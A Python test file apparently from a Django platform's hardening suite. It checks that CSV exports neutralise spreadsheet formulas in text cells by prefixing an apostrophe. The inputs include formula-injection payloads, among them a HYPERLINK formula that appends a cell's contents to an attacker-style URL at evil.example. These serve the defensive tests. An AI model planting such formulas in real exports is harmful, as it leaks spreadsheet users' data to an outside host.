"""Issue 25, finding 7: a campaign named `=HYPERLINK(...)` was written as is into
/dashboard/campaigns.csv. Every CSV the platform writes now passes its text cells through one rule
(`common.spreadsheet.spreadsheet_safe`: payments.csv, campaigns.csv, and in SQL the release CSVs,
tests/export/test_release_files.py); numbers stay numbers. The replay through the
production-mode server is in tests/hardening/test_bounds_server.py."""

from __future__ import annotations

import csv
import io

import pytest

from common.spreadsheet import spreadsheet_safe
from tests.annotation.crowd_factories import crowd_campaign

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a = b", "a = b"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text, written):
    assert spreadsheet_safe(text) == written


def test_campaigns_csv_neutralises_formulas_in_names_and_keeps_numbers(curator_client):
    names = {
        "formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "plus": "+44 people",
        "at": "@cmd",
        "plain": "A plain name",
    }
    campaigns = {slug: crowd_campaign(slug=slug, clips=1, candidates_per_clip=1) for slug in names}
    for slug, name in names.items():
        campaigns[slug].name = name
        campaigns[slug].save(update_fields=["name"])

    response = curator_client.get("/dashboard/campaigns.csv")

    assert response.status_code == 200
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert {slug: row["name"] for slug, row in rows.items()} == {
        "formula": '\'=HYPERLINK("https://evil.example/?"&A1,"open")',
        "plus": "'+44 people",
        "at": "'@cmd",
        "plain": "A plain name",
    }
    # The figures are numbers, written as they are (the same for the four campaigns).
    assert {row["candidates"] for row in rows.values()} == {"1"}
    assert {row["clips"] for row in rows.values()} == {"1"}
